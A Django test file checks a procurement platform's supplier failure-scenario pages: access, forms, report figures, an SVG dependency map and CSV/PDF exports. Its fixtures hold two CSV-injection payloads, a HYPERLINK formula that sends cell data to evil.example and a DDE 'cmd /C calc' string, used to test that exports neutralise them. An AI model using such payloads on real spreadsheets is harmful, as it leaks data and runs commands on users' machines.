"""The failure scenario pages, as the resilience team uses them: the saved list, a new scenario
(search, tick, date; errors by their fields), the report with its dependency map drawn on the
server and the same data as a table, and the CSV and PDF downloads. Nobody else finds them."""

import base64
import csv
import io
import re
import zlib
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from levelfield.accounts.models import Role
from levelfield.core import clock
from levelfield.resilience import actions, actions_scenarios, selectors_scenarios
from levelfield.resilience.models import Scenario
from levelfield.resilience.scenarios import build_report
from levelfield.resilience.views_scenario_map import layout, lines_of, map_rows
from levelfield.suppliers import actions as supplier_actions
from levelfield.suppliers.models import ContractSubcontractor, Region, Size
from tests.support import testing

pytestmark = pytest.mark.django_db

AS_OF = date(2027, 1, 15)
HOSTILE_ENTITY = '=HYPERLINK("http://evil.example/?x="&A1,"Click") Offshore Ltd'
HOSTILE_SUBCONTRACTOR = "@SUM(1+1)*cmd|' /C calc'!A0 Vans"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

WILL = {
    "entities": [
        {"name": "Albion Group plc", "company_number": "01234567", "parent": ""},
        {"name": "Albion Care Ltd", "company_number": "02345678", "parent": "01234567"},
        {"name": HOSTILE_ENTITY, "company_number": "SC123456", "parent": "01234567"},
    ],
    "services": [
        {"name": "Home care", "authorities": ["Shire County Council"], "people_served": 1200},
        {"name": "Meals", "authorities": ["Wessex Council"], "people_served": 300},
    ],
    "plans": [
        {
            "service": "Home care",
            "steps": ["Tell the council", "Transfer the rota"],
            "days_to_transfer": 60,
            "data": "Care plans",
            "assets": "Vans",
            "staff": "80 carers (TUPE)",
            "tell": ["Shire adult social care"],
        }
    ],
}


def supplier(name: str, number: str = ""):
    organisation, admin = testing.supplier_with_user(name)
    supplier_actions.update_profile(
        profile=organisation.supplier_profile,
        by=admin,
        legal_name=name,
        companies_house_number=number,
        region=Region.SOUTH_WEST,
        declared_size=Size.LARGE,
    )
    organisation.refresh_from_db()
    return organisation, admin


def subcontract(contract, name: str, number: str = ""):
    """A subcontractor on a contract let elsewhere (on the platform it comes from the winning
    bid)."""
    return ContractSubcontractor.objects.create(
        contract=contract,
        name=name,
        companies_house_number=number,
        size=Size.SMALL,
        share_percent=Decimal("10"),
        description="Transport",
        value=Decimal("1000"),
    )


@pytest.fixture
def world():
    """Albion Group (its will lists Albion Care, on levelfield, and an offshore entity that is
    not) holds home care at Shire (£300,000 over 1,096 days: £99,908.76 a year, critical) and
    meals at Wessex (£50,000 over 182 days: £50,000.00); Albion Care holds reablement at Wessex
    (£730,000 over 730 days: £365,000.00). Annual value £514,908.76; people 1,200 + 300. The
    vans subcontractor on home care also works for Other Care."""
    shire = testing.buyer_org("Shire County Council")
    wessex = testing.buyer_org("Wessex Council")
    albion, albion_admin = supplier("Albion Group plc", "01234567")
    care, _ = supplier("Albion Care Ltd", "02345678")
    other, _ = supplier("Other Care Ltd", "03456789")

    def contract(buyer, holder, value, start, end, **kw):
        return testing.contract_let_elsewhere(
            buyer=buyer, supplier=holder, value=value, start_date=start, end_date=end, **kw
        )

    home = contract(
        shire,
        albion,
        "300000",
        date(2026, 4, 1),
        date(2029, 3, 31),
        critical=True,
        title="Home care",
    )
    meals = contract(wessex, albion, "50000", date(2026, 10, 1), date(2027, 3, 31), title="Meals")
    reablement = contract(
        wessex, care, "730000", date(2026, 1, 1), date(2027, 12, 31), title="Reablement"
    )
    elsewhere = contract(shire, other, "90000", date(2026, 1, 1), date(2027, 12, 31))
    will = actions.start_living_will(supplier=albion, by=albion_admin)
    review = clock.today_uk() + timedelta(days=365)
    actions.edit_living_will(
        will=will, by=albion_admin, content=WILL, owner=albion_admin, review_date=review
    )
    actions.submit_living_will(will=will, by=albion_admin)
    subcontract(home, HOSTILE_SUBCONTRACTOR, "07654321")
    subcontract(elsewhere, "Vans Limited", "07654321")
    return {
        "albion": albion,
        "albion_admin": albion_admin,
        "care": care,
        "other": other,
        "home": home,
        "meals": meals,
        "reablement": reablement,
        "shire": shire,
    }


@pytest.fixture
def team(client):
    person = testing.resilience_team_member(full_name="Rhiannon Team")
    client.force_login(person)
    return person


@pytest.fixture
def scenario(world, team):
    return actions_scenarios.create_scenario(
        name="Albion fails", supplier_ids=[world["albion"].pk], as_of=AS_OF, by=team
    )


def formula_like(value) -> bool:
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return False
    return value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS)


def pdf_text(content: bytes) -> str:
    """The text of a reportlab PDF's streams, each undone from its filters (ASCII85 then
    Flate, or none)."""
    text = []
    for match in re.finditer(rb"<<(.*?)>>\s*stream\r?\n(.*?)endstream", content, re.S):
        head, data = match.group(1), match.group(2)
        if b"ASCII85Decode" in head:
            data = data.strip().removeprefix(b"<~").removesuffix(b"~>")
            data = base64.a85decode(data)
        if b"FlateDecode" in head:
            data = zlib.decompress(data)
        text.append(data.decode("latin-1"))
    return "\n".join(text)


# --- Who reaches the pages ----------------------------------------------------------------------

PAGES = {
    "scenarios": False,
    "scenario_new": False,
    "scenario": True,
    "scenario_csv": True,
    "scenario_pdf": True,
}


@pytest.mark.parametrize("name", PAGES)
def test_only_the_resilience_team_finds_the_pages(client, scenario, world, name):
    address = reverse(f"resilience:{name}", args=[scenario.pk] if PAGES[name] else [])
    client.logout()
    assert client.get(address).status_code == 302  # to sign in
    others = (
        world["albion_admin"],  # the supplier the scenario names
        testing.member(world["shire"], Role.BUYER_ADMIN),  # a buyer of its contracts
        testing.UserFactory(is_superuser=True, is_staff=True),  # a platform admin
    )
    for person in others:
        client.force_login(person)
        assert client.get(address).status_code == 404, person
    client.force_login(testing.resilience_team_member())
    assert client.get(address).status_code == 200


def test_a_scenario_that_does_not_exist_is_not_found(client, team):
    for name in ("scenario", "scenario_csv", "scenario_pdf"):
        assert client.get(reverse(f"resilience:{name}", args=[999999])).status_code == 404


# --- The list -----------------------------------------------------------------------------------


def test_the_list_shows_saved_scenarios_a_page_at_a_time(client, world, team):
    for number in range(21):
        actions_scenarios.create_scenario(
            name=f"Scenario {number:02d}", supplier_ids=[world["albion"].pk], as_of=AS_OF, by=team
        )

    first = client.get(reverse("resilience:scenarios")).content.decode()
    second = client.get(reverse("resilience:scenarios"), {"page": 2}).content.decode()

    assert "Scenario 20" in first and "Scenario 01" in first and "Scenario 00" not in first
    assert "Scenario 00" in second and "Scenario 20" not in second
    assert 'aria-label="Scenario pages"' in first
    assert "Albion Group plc" in first and "15 January 2027" in first
    assert "Rhiannon Team" in first


def test_an_empty_list_says_so(client, team):
    page = client.get(reverse("resilience:scenarios")).content.decode()
    assert "No scenario has been saved yet" in page
    assert reverse("resilience:scenario_new") in page


# --- A new scenario -----------------------------------------------------------------------------


def test_a_search_offers_suppliers_to_tick_keeping_what_was_typed(client, world, team):
    page = client.get(reverse("resilience:scenario_new"), {"q": "albion"}).content.decode()

    assert f'value="{world["albion"].pk}"' in page and f'value="{world["care"].pk}"' in page
    assert "Other Care Ltd" not in page

    searched = client.post(
        reverse("resilience:scenario_new"),
        {
            "action": "search",
            "name": "Two fail",
            "suppliers": [str(world["albion"].pk)],
            "q": "other",
            "as_of": "15/1/2027",
        },
    ).content.decode()

    assert "There is a problem" not in searched
    assert 'value="Two fail"' in searched and 'value="15/1/2027"' in searched
    # Albion still ticked, Other Care offered beside it.
    assert re.search(rf'value="{world["albion"].pk}"\s+checked', searched)
    assert f'value="{world["other"].pk}"' in searched
    assert not re.search(rf'value="{world["other"].pk}"\s+checked', searched)
    nothing = client.get(reverse("resilience:scenario_new"), {"q": "zebra"}).content.decode()
    assert "No supplier's name contains “zebra”" in nothing


def test_saving_without_a_name_a_supplier_or_a_real_date_says_what_to_correct(client, team):
    response = client.post(
        reverse("resilience:scenario_new"), {"action": "save", "name": " ", "as_of": "31/2/2027"}
    )

    page = response.content.decode()
    assert "There is a problem" in page and "<title>Error: " in page
    for field, message in (
        ("id_name", "Enter a name for the scenario"),
        ("id_suppliers", "Choose at least one supplier"),
        ("id_as_of", "Enter the date they fail as a real date, like 27/3/2026"),
    ):
        assert f'<a href="#{field}">{message}</a>' in page, message
        assert f'id="{field}"' in page
    assert not Scenario.objects.exists()


def test_a_supplier_not_offered_is_refused_by_its_field(client, world, team):
    buyer = testing.buyer_org("Not A Supplier Council")
    response = client.post(
        reverse("resilience:scenario_new"),
        {"action": "save", "name": "X", "suppliers": [str(buyer.pk)], "as_of": "15/1/2027"},
    )

    assert '<a href="#id_suppliers">' in response.content.decode()
    assert not Scenario.objects.exists()


def test_saving_a_scenario_shows_its_report(client, world, team):
    response = client.post(
        reverse("resilience:scenario_new"),
        {
            "action": "save",
            "name": "Albion and Other fail",
            "suppliers": [str(world["albion"].pk), str(world["other"].pk)],
            "as_of": "15 January 2027",
        },
    )

    scenario = Scenario.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("resilience:scenario", args=[scenario.pk])
    assert scenario.as_of == AS_OF and scenario.created_by == team
    assert set(scenario.suppliers.all()) == {world["albion"], world["other"]}
    page = client.get(response["Location"]).content.decode()
    assert "Scenario saved: Albion and Other fail" in page


# --- The report ---------------------------------------------------------------------------------


def test_the_report_summarises_the_hand_checked_figures(client, scenario, world):
    page = client.get(reverse("resilience:scenario", args=[scenario.pk])).content.decode()

    assert re.search(r'id="summary-contracts">3, 1 of them critical<', page)
    assert 'id="summary-authorities">2<' in page
    assert 'id="summary-annual-value">£514,908.76<' in page
    assert 'id="summary-people">1500<' in page  # 1,200 home care + 300 meals
    assert (
        "Albion Care Ltd (02345678): A group entity in the living will of Albion Group plc" in page
    )
    for contract in (world["home"], world["meals"], world["reablement"]):
        assert f"{contract.reference}: {contract.title}" in page
    assert "£99,908.76" in page and "£365,000" in page
    assert "60 days to transfer" in page and "80 carers (TUPE)" in page
    assert "No continuity plan for Meals" in page
    assert "Other Care Ltd (" in page and "Shared" in page
    # Let elsewhere: no CPV codes, so the candidates say why there are none.
    assert "No candidates: the contract records no CPV codes" in page


def test_the_map_is_an_svg_with_a_title_a_description_and_the_same_data_as_a_table(
    client, scenario, world
):
    page = client.get(reverse("resilience:scenario", args=[scenario.pk])).content.decode()

    svg = page[page.index("<svg") : page.index("</svg>")]
    assert 'role="img"' in svg and 'aria-labelledby="map-title map-desc"' in svg
    assert '<title id="map-title">Dependency map of Albion fails</title>' in svg
    assert "3 contracts; 2 authorities" in svg and "The same data is in the table" in svg
    for label in ("Albion Group plc", "Albion Care Ltd", "Shire County Council", "Wessex Council"):
        assert f">{label}</text>" in svg, label
    assert "Offshore Ltd" in svg  # the entity off the platform, escaped
    assert "<script" not in svg and HOSTILE_ENTITY not in svg
    assert svg.count('class="edge ') == len(scenario_report(scenario).dependency_edges())
    assert 'href="#map-table"' in page
    table = page[
        page.index('id="map-table"') : page.index("</table>", page.index('id="map-table"'))
    ]
    home = f"{world['home'].reference}: Home care"
    assert re.search(rf"Albion Group plc.*?holds</td>.*?{re.escape(home)}", table, re.S)
    assert re.search(rf"{re.escape(home)}.*?is let by</td>.*?Shire County Council", table, re.S)
    assert re.search(r"Vans.*?also works for</td>.*?Other Care Ltd", table, re.S)


def scenario_report(scenario):
    return selectors_scenarios.report(scenario)


def test_the_map_lays_out_columns_left_to_right_and_every_edge(scenario):
    report = scenario_report(scenario)

    drawn = layout(report)

    assert [h.label for h in drawn.headings] == [
        "Other suppliers",
        "Subcontractors",
        "Failed suppliers and group",
        "Contracts",
        "Authorities",
    ]
    x = {node.kind: node.x for node in drawn.nodes}
    assert x["other_supplier"] < x["subcontractor"] < x["supplier"] < x["contract"]
    assert x["contract"] < x["authority"] and x["entity"] == x["supplier"]
    assert len(drawn.edges) == len(report.dependency_edges())
    assert len(map_rows(report)) >= len(report.dependency_edges())
    assert all(node.y + node.height <= drawn.height for node in drawn.nodes)
    assert all(node.x + node.width <= drawn.width for node in drawn.nodes)


def test_a_long_label_is_broken_between_words_and_shortened():
    assert lines_of("Shire County Council") == ("Shire County Council",)
    assert lines_of("LE-2026-0001: Home care and reablement for adults across the county") == (
        "LE-2026-0001: Home",
        "care and reablement…",
    )
    assert lines_of("Failed suppliers and group", 18) == ("Failed suppliers", "and group")


# --- Downloads ----------------------------------------------------------------------------------


def test_the_csv_says_the_same_and_opens_every_name_as_text(client, scenario, world):
    response = client.get(reverse("resilience:scenario_csv", args=[scenario.pk]))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="failure-scenario-' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if formula_like(c)] == []
    assert "'" + HOSTILE_SUBCONTRACTOR in cells
    assert any(c.startswith("'" + HOSTILE_ENTITY) or ("'" + HOSTILE_ENTITY) in c for c in cells)
    assert ["Annual value", "£514,908.76"] in rows
    contracts = rows.index(["Contracts affected"])
    assert rows[contracts + 1][:3] == ["Reference", "Title", "Authority"]
    references = {row[0] for row in rows[contracts + 2 : contracts + 5]}
    assert references == {c.reference for c in (world["home"], world["meals"], world["reablement"])}
    assert ["Candidate replacements"] in rows


def test_the_pdf_has_the_title_the_summary_and_the_contract_references(client, scenario, world):
    response = client.get(reverse("resilience:scenario_pdf", args=[scenario.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    content = response.content
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    assert "Failure scenario: Albion fails" in text
    assert "514,908.76" in text
    for contract in (world["home"], world["meals"], world["reablement"]):
        assert f"({contract.reference}" in text, contract.reference
    assert "Continuity plans" in text and "Candidate replacements" in text


def test_the_pdf_reader_reads_what_it_is_given():
    """The helper above finds text only where it is (so the test of the PDF can fail)."""
    from levelfield.resilience.views_scenario_files import pdf_bytes

    class Named:
        name = "Nothing here"
        pk = 1

    report = build_report([], AS_OF)
    text = pdf_text(pdf_bytes(Named(), report))
    assert "Failure scenario: Nothing here" in text
    assert "LE-2026" not in text


def test_the_list_asks_the_database_the_same_number_of_times_for_more_scenarios(
    client, world, team, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def create(count):
        for number in range(count):
            actions_scenarios.create_scenario(
                name=f"Scenario {number}",
                supplier_ids=[world["albion"].pk, world["other"].pk],
                as_of=AS_OF,
                by=testing.resilience_team_member(),
            )

    create(2)
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("resilience:scenarios"))
    create(10)
    with django_assert_max_num_queries(len(few)):
        client.get(reverse("resilience:scenarios"))
